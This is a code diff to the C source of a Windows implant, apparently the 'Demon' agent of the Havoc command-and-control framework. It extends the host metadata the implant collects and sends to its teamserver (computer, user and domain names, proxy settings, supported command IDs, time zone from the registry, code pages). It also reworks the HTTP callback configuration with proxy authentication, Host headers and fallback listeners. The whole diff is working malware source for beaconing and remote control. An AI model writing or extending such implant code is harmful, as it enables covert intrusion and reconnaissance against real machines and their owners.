@@ -99,6 +99,10 @@ VOID DemonMetaData( PPACKAGE* MetaData, BOOL Header )
     OSVERSIONINFOEXW OsVersions = { 0 };
     SIZE_T           Length     = 0;
     DWORD            dwLength   = 0;
+    LARGE_INTEGER    Bias       = { 0 };
+    HKEY             Key        = NULL;
+    WCHAR            TimeZone[ 128 ];
+    PPEB             Peb        = Instance->Teb->ProcessEnvironmentBlock;
 
     /* Check we if we want to add the Agent Header + CommandID too */
     if ( Header )
@@ -136,9 +140,10 @@ VOID DemonMetaData( PPACKAGE* MetaData, BOOL Header )
         [ AES IV       ] 16 bytes
         [ Magic Value  ] 4 bytes
         [ Demon ID     ] 4 bytes
-        [ Host Name    ] size + bytes
-        [ User Name    ] size + bytes
-        [ Domain       ] size + bytes
+        [ Protocol     ] 4 bytes
+        [ Host Name    ] size + bytes (utf-16)
+        [ User Name    ] size + bytes (utf-16)
+        [ Domain       ] size + bytes (utf-16)
         [ IP Address   ] 16 bytes?
         [ Process Name ] size + bytes
         [ Process ID   ] 4 bytes
@@ -152,6 +157,14 @@ VOID DemonMetaData( PPACKAGE* MetaData, BOOL Header )
         [ SleepJitter  ] 4 bytes
         [ Killdate     ] 8 bytes
         [ WorkingHours ] 4 bytes
+        [ Proxy Mode   ] 4 bytes
+        [ Proxy Path   ] size + bytes
+        [ Commands     ] 4 bytes count + ( count * 4 ) bytes
+        [ Max Response ] 4 bytes
+        [ TimeZoneBias ] 8 bytes
+        [ TimeZone     ] size + bytes
+        [ AnsiCodePage ] 4 bytes
+        [ OemCodePage  ] 4 bytes
         ..... more
         [ Optional     ] Eg: Pivots, Extra data about the host or network etc.
     */
@@ -163,18 +176,21 @@ VOID DemonMetaData( PPACKAGE* MetaData, BOOL Header )
     // Add session id
     PackageAddInt32( *MetaData, Instance->Session.AgentID );
 
-    // Get Computer name
+    // Add the version of the metadata layout
+    PackageAddInt32( *MetaData, DEMON_PROTOCOL_FLAG | DEMON_PROTOCOL_VERSION );
+
+    // Get Computer name (host, user and domain name are utf-16 so names outside of the ansi code page survive)
     dwLength = 0;
-    if ( ! Instance->Win32.GetComputerNameExA( ComputerNameNetBIOS, NULL, &dwLength ) )
+    if ( ! Instance->Win32.GetComputerNameExW( ComputerNameNetBIOS, NULL, &dwLength ) )
     {
-        if ( ( Data = Instance->Win32.LocalAlloc( LPTR, dwLength ) ) )
+        if ( ( Data = Instance->Win32.LocalAlloc( LPTR, dwLength * sizeof( WCHAR ) ) ) )
         {
-            MemSet( Data, 0, dwLength );
-            if ( Instance->Win32.GetComputerNameExA( ComputerNameNetBIOS, Data, &dwLength ) )
-                PackageAddBytes( *MetaData, Data, dwLength );
+            MemSet( Data, 0, dwLength * sizeof( WCHAR ) );
+            if ( Instance->Win32.GetComputerNameExW( ComputerNameNetBIOS, Data, &dwLength ) )
+                PackageAddWString( *MetaData, Data );
             else
                 PackageAddInt32( *MetaData, 0 );
-            DATA_FREE( Data, dwLength );
+            DATA_FREE( Data, dwLength * sizeof( WCHAR ) );
         }
         else
             PackageAddInt32( *MetaData, 0 );
@@ -184,16 +200,16 @@ VOID DemonMetaData( PPACKAGE* MetaData, BOOL Header )
 
     // Get Username
     dwLength = 0;
-    if ( ! Instance->Win32.GetUserNameA( NULL, &dwLength ) )
+    if ( ! Instance->Win32.GetUserNameW( NULL, &dwLength ) )
     {
-        if ( ( Data = Instance->Win32.LocalAlloc( LPTR, dwLength ) ) )
+        if ( ( Data = Instance->Win32.LocalAlloc( LPTR, dwLength * sizeof( WCHAR ) ) ) )
         {
-            MemSet( Data, 0, dwLength );
-            if ( Instance->Win32.GetUserNameA( Data, &dwLength ) )
-                PackageAddBytes( *MetaData, Data, dwLength );
+            MemSet( Data, 0, dwLength * sizeof( WCHAR ) );
+            if ( Instance->Win32.GetUserNameW( Data, &dwLength ) )
+                PackageAddWString( *MetaData, Data );
             else
                 PackageAddInt32( *MetaData, 0 );
-            DATA_FREE( Data, dwLength );
+            DATA_FREE( Data, dwLength * sizeof( WCHAR ) );
         }
         else
             PackageAddInt32( *MetaData, 0 );
@@ -203,16 +219,16 @@ VOID DemonMetaData( PPACKAGE* MetaData, BOOL Header )
 
     // Get Domain
     dwLength = 0;
-    if ( ! Instance->Win32.GetComputerNameExA( ComputerNameDnsDomain, NULL, &dwLength ) )
+    if ( ! Instance->Win32.GetComputerNameExW( ComputerNameDnsDomain, NULL, &dwLength ) )
     {
-        if ( ( Data = Instance->Win32.LocalAlloc( LPTR, dwLength ) ) )
+        if ( ( Data = Instance->Win32.LocalAlloc( LPTR, dwLength * sizeof( WCHAR ) ) ) )
         {
-            MemSet( Data, 0, dwLength );
-            if ( Instance->Win32.GetComputerNameExA( ComputerNameDnsDomain, Data, &dwLength ) )
-                PackageAddBytes( *MetaData, Data, dwLength );
+            MemSet( Data, 0, dwLength * sizeof( WCHAR ) );
+            if ( Instance->Win32.GetComputerNameExW( ComputerNameDnsDomain, Data, &dwLength ) )
+                PackageAddWString( *MetaData, Data );
             else
                 PackageAddInt32( *MetaData, 0 );
-            DATA_FREE( Data, dwLength );
+            DATA_FREE( Data, dwLength * sizeof( WCHAR ) );
         }
         else
             PackageAddInt32( *MetaData, 0 );
@@ -276,6 +292,59 @@ VOID DemonMetaData( PPACKAGE* MetaData, BOOL Header )
     PackageAddInt32( *MetaData, Instance->Config.Jitter );
     PackageAddInt64( *MetaData, Instance->Config.Transport.KillDate );
     PackageAddInt32( *MetaData, Instance->Config.Transport.WorkingHours );
+
+#ifdef TRANSPORT_HTTP
+    // Add the proxy path we are using to talk to the listener
+    PackageAddInt32( *MetaData, Instance->Config.Transport.Proxy.Mode );
+    if ( Instance->Config.Transport.Proxy.Enabled )
+        PackageAddWString( *MetaData, Instance->Config.Transport.Proxy.Url );
+    else if ( Instance->ProxyForUrl && ( ( WINHTTP_PROXY_INFO* ) Instance->ProxyForUrl )->lpszProxy )
+        PackageAddWString( *MetaData, ( ( WINHTTP_PROXY_INFO* ) Instance->ProxyForUrl )->lpszProxy );
+    else
+        PackageAddInt32( *MetaData, 0 );
+#else
+    PackageAddInt32( *MetaData, TRANSPORT_PROXY_NONE );
+    PackageAddInt32( *MetaData, 0 );
+#endif
+
+    /* commands this build supports so the teamserver can refuse tasks we can't run */
+    for ( Length = 0; DemonCommands[ Length ].Function != NULL; Length++ );
+
+    PackageAddInt32( *MetaData, Length );
+    for ( SIZE_T i = 0; i < Length; i++ )
+        PackageAddInt32( *MetaData, DemonCommands[ i ].ID );
+
+    /* max response size the transport (or proxy on the way) takes */
+    PackageAddInt32( *MetaData, TRANSPORT_MAX_RESPONSE );
+
+    /* time zone of the host so the teamserver knows its local time.
+     * the bias is in 100ns units (UTC = local time + bias) and includes daylight saving.
+     * the kernel writes High2Time, LowPart and then High1Time, so read it again
+     * until both high parts match or we might get a torn value (eg. at a dst switch) */
+    do {
+        Bias.HighPart = USER_SHARED_DATA->TimeZoneBias.High1Time;
+        Bias.LowPart  = USER_SHARED_DATA->TimeZoneBias.LowPart;
+    } while ( Bias.HighPart != USER_SHARED_DATA->TimeZoneBias.High2Time );
+
+    PackageAddInt64( *MetaData, Bias.QuadPart );
+
+    /* windows name of the time zone (eg. "W. Europe Standard Time"). empty if we can't read it */
+    MemSet( TimeZone, 0, sizeof( TimeZone ) );
+    if ( Instance->Win32.RegOpenKeyExW && Instance->Win32.RegOpenKeyExW( HKEY_LOCAL_MACHINE, L"SYSTEM\\CurrentControlSet\\Control\\TimeZoneInformation", 0, KEY_QUERY_VALUE, &Key ) == ERROR_SUCCESS )
+    {
+        dwLength = sizeof( TimeZone ) - sizeof( WCHAR );
+        if ( Instance->Win32.RegQueryValueExW( Key, L"TimeZoneKeyName", NULL, NULL, ( PBYTE ) TimeZone, &dwLength ) != ERROR_SUCCESS ) {
+            MemSet( TimeZone, 0, sizeof( TimeZone ) );
+        }
+        Instance->Win32.RegCloseKey( Key );
+    }
+
+    PackageAddWString( *MetaData, TimeZone );
+
+    /* code pages of the ansi and console (oem) output we send. the code page
+     * follows the header size in the nls tables the peb points to */
+    PackageAddInt32( *MetaData, Peb->AnsiCodePageData ? ( ( PUSHORT ) Peb->AnsiCodePageData )[ 1 ] : 0 );
+    PackageAddInt32( *MetaData, Peb->OemCodePageData  ? ( ( PUSHORT ) Peb->OemCodePageData  )[ 1 ] : 0 );
 }
 
 VOID DemonInit( PVOID ModuleInst, PKAYN_ARGS KArgs )
@@ -324,6 +393,9 @@ VOID DemonInit( PVOID ModuleInst, PKAYN_ARGS KArgs )
         Instance->Win32.RtlRandomEx                       = LdrFunctionAddr( Instance->Modules.Ntdll, H_FUNC_RTLRANDOMEX );
         Instance->Win32.RtlNtStatusToDosError             = LdrFunctionAddr( Instance->Modules.Ntdll, H_FUNC_RTLNTSTATUSTODOSERROR );
         Instance->Win32.RtlGetVersion                     = LdrFunctionAddr( Instance->Modules.Ntdll, H_FUNC_RTLGETVERSION );
+        Instance->Win32.RtlGetCompressionWorkSpaceSize    = LdrFunctionAddr( Instance->Modules.Ntdll, H_FUNC_RTLGETCOMPRESSIONWORKSPACESIZE );
+        Instance->Win32.RtlCompressBuffer                 = LdrFunctionAddr( Instance->Modules.Ntdll, H_FUNC_RTLCOMPRESSBUFFER );
+        Instance->Win32.RtlDecompressBuffer               = LdrFunctionAddr( Instance->Modules.Ntdll, H_FUNC_RTLDECOMPRESSBUFFER );
         Instance->Win32.RtlCreateTimerQueue               = LdrFunctionAddr( Instance->Modules.Ntdll, H_FUNC_RTLCREATETIMERQUEUE );
         Instance->Win32.RtlCreateTimer                    = LdrFunctionAddr( Instance->Modules.Ntdll, H_FUNC_RTLCREATETIMER );
         Instance->Win32.RtlQueueWorkItem                  = LdrFunctionAddr( Instance->Modules.Ntdll, H_FUNC_RTLQUEUEWORKITEM );
@@ -433,6 +505,7 @@ VOID DemonInit( PVOID ModuleInst, PKAYN_ARGS KArgs )
         Instance->Win32.CreateFileW                     = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_CREATEFILEW );
         Instance->Win32.GetFileSize                     = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_GETFILESIZE );
         Instance->Win32.GetFileSizeEx                   = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_GETFILESIZEEX );
+        Instance->Win32.SetFilePointerEx                = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_SETFILEPOINTEREX );
         Instance->Win32.CreateNamedPipeW                = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_CREATENAMEDPIPEW );
         Instance->Win32.ConvertFiberToThread            = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_CONVERTFIBERTOTHREAD );
         Instance->Win32.CreateFiberEx                   = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_CREATEFIBEREX );
@@ -440,6 +513,7 @@ VOID DemonInit( PVOID ModuleInst, PKAYN_ARGS KArgs )
         Instance->Win32.VirtualAllocEx                  = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_VIRTUALALLOCEX );
         Instance->Win32.WaitForSingleObjectEx           = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_WAITFORSINGLEOBJECTEX );
         Instance->Win32.GetComputerNameExA              = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_GETCOMPUTERNAMEEXA );
+        Instance->Win32.GetComputerNameExW              = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_GETCOMPUTERNAMEEXW );
         Instance->Win32.GetExitCodeProcess              = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_GETEXITCODEPROCESS );
         Instance->Win32.GetExitCodeThread               = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_GETEXITCODETHREAD );
         Instance->Win32.TerminateProcess                = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_TERMINATEPROCESS );
@@ -465,6 +539,8 @@ VOID DemonInit( PVOID ModuleInst, PKAYN_ARGS KArgs )
         Instance->Win32.FileTimeToSystemTime            = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_FILETIMETOSYSTEMTIME );
         Instance->Win32.SystemTimeToTzSpecificLocalTime = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_SYSTEMTIMETOTZSPECIFICLOCALTIME );
         Instance->Win32.RemoveDirectoryW                = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_REMOVEDIRECTORYW );
+        Instance->Win32.GlobalLock                      = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_GLOBALLOCK );
+        Instance->Win32.GlobalUnlock                    = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_GLOBALUNLOCK );
         Instance->Win32.DeleteFileW                     = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_DELETEFILEW );
         Instance->Win32.CreateDirectoryW                = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_CREATEDIRECTORYW );
         Instance->Win32.CopyFileW                       = LdrFunctionAddr( Instance->Modules.Kernel32, H_FUNC_COPYFILEW );
@@ -682,76 +758,19 @@ VOID DemonConfig()
     Instance->Config.Transport.HostRotation   = ParserGetInt32( &Parser );
     Instance->Config.Transport.HostMaxRetries = 0;  /* Max retries. 0 == infinite retrying
                                                     * TODO: add this to the yaotl language and listener GUI */
-    Instance->Config.Transport.Hosts = NULL;
-    Instance->Config.Transport.Host  = NULL;
-
-    /* J contains our Hosts counter */
-    J = ParserGetInt32( &Parser );
-    PRINTF( "[CONFIG] Hosts [%d]\n:", J )
-    for ( int i = 0; i < J; i++ )
-    {
-        Buffer = ParserGetBytes( &Parser, &Length );
-        Temp   = ParserGetInt32( &Parser );
-
-        PRINTF( " - %ls:%ld\n", Buffer, Temp )
-
-        /* if our host address is longer than 0 then lets use it. */
-        if ( Length > 0 ) {
-            /* Add parse host data to our linked list */
-            HostAdd( Buffer, Length, Temp );
-        }
-    }
-    Instance->Config.Transport.NumHosts = HostCount();
-    PRINTF( "Hosts added => %d\n", Instance->Config.Transport.NumHosts )
+    /* parse our Hosts */
+    HttpConfigHosts( &Parser );
 
     /* Get Host data based on our host rotation strategy */
     Instance->Config.Transport.Host = HostRotation( Instance->Config.Transport.HostRotation );
     PRINTF( "Host going to be used is => %ls:%ld\n", Instance->Config.Transport.Host->Host, Instance->Config.Transport.Host->Port )
 
-    // Listener Secure (SSL)
-    Instance->Config.Transport.Secure = ParserGetInt32( &Parser );
-    PRINTF( "[CONFIG] Secure: %s\n", Instance->Config.Transport.Secure ? "TRUE" : "FALSE" );
-
-    // UserAgent
-    Buffer = ParserGetBytes( &Parser, &Length );
-    Instance->Config.Transport.UserAgent = MmHeapAlloc( Length + sizeof( WCHAR ) );
-    MemCopy( Instance->Config.Transport.UserAgent, Buffer, Length );
-    PRINTF( "[CONFIG] UserAgent: %ls\n", Instance->Config.Transport.UserAgent );
-
-    // Headers
-    J = ParserGetInt32( &Parser );
-    Instance->Config.Transport.Headers = MmHeapAlloc( sizeof( LPWSTR ) * ( ( J + 1 ) * 2 ) );
-    PRINTF( "[CONFIG] Headers [%d]:\n", J );
-    for ( INT i = 0; i < J; i++ )
-    {
-        Buffer = ParserGetBytes( &Parser, &Length );
-        Instance->Config.Transport.Headers[ i ] = MmHeapAlloc( Length + sizeof( WCHAR ) );
-        MemSet( Instance->Config.Transport.Headers[ i ], 0, Length );
-        MemCopy( Instance->Config.Transport.Headers[ i ], Buffer, Length );
-#ifdef DEBUG
-        PRINTF( "  - %ls\n", Instance->Config.Transport.Headers[ i ] );
-#endif
-    }
-    Instance->Config.Transport.Headers[ J + 1 ] = NULL;
-
-    // Uris
-    J = ParserGetInt32( &Parser );
-    Instance->Config.Transport.Uris = MmHeapAlloc( sizeof( LPWSTR ) * ( ( J + 1 ) * 2 ) );
-    PRINTF( "[CONFIG] Uris [%d]:\n", J );
-    for ( INT i = 0; i < J; i++ )
-    {
-        Buffer = ParserGetBytes( &Parser, &Length );
-        Instance->Config.Transport.Uris[ i ] = MmHeapAlloc( Length + sizeof( WCHAR ) );
-        MemSet( Instance->Config.Transport.Uris[ i ], 0, Length + sizeof( WCHAR ) );
-        MemCopy( Instance->Config.Transport.Uris[ i ], Buffer, Length );
-#ifdef DEBUG
-        PRINTF( "  - %ls\n", Instance->Config.Transport.Uris[ i ] );
-#endif
-    }
-    Instance->Config.Transport.Uris[ J + 1 ] = NULL;
+    /* Secure, UserAgent, Headers and Uris */
+    HttpConfigRequest( &Parser );
 
     // check if proxy connection is enabled
-    Instance->Config.Transport.Proxy.Enabled = ( BOOL ) ParserGetInt32( &Parser );;
+    Instance->Config.Transport.Proxy.Mode    = ParserGetInt32( &Parser );
+    Instance->Config.Transport.Proxy.Enabled = ( Instance->Config.Transport.Proxy.Mode == TRANSPORT_HTTP_PROXY_EXPLICIT );
     if ( Instance->Config.Transport.Proxy.Enabled )
     {
         PUTS( "[CONFIG] [PROXY] Enabled" );
@@ -779,11 +798,34 @@ VOID DemonConfig()
         }
         else
             Instance->Config.Transport.Proxy.Password = NULL;
+
+        Instance->Config.Transport.Proxy.AuthScheme = ParserGetInt32( &Parser );
+        PRINTF( "[CONFIG] [PROXY] AuthScheme: %d\n", Instance->Config.Transport.Proxy.AuthScheme );
+
+        Buffer = ParserGetBytes( &Parser, &Length );
+        if ( Length > 0 )
+        {
+            Instance->Config.Transport.Proxy.Bypass = MmHeapAlloc( Length + sizeof( WCHAR ) );
+            MemCopy( Instance->Config.Transport.Proxy.Bypass, Buffer, Length );
+            PRINTF( "[CONFIG] [PROXY] Bypass: %ls\n", Instance->Config.Transport.Proxy.Bypass );
+        }
+        else
+            Instance->Config.Transport.Proxy.Bypass = NULL;
+    }
+    else if ( Instance->Config.Transport.Proxy.Mode == TRANSPORT_HTTP_PROXY_DIRECT )
+    {
+        PUTS( "[CONFIG] [PROXY] Direct" );
     }
     else
     {
-        PUTS( "[CONFIG] [PROXY] Disabled" );
+        PUTS( "[CONFIG] [PROXY] System" );
     }
+
+    /* optional Host header for each callback host (same order as the hosts) */
+    HttpConfigHostHeaders( &Parser );
+
+    /* listeners to fail over to once every host of the current one is dead */
+    HttpConfigFallbacks( &Parser );
 #endif
 
 #ifdef TRANSPORT_SMB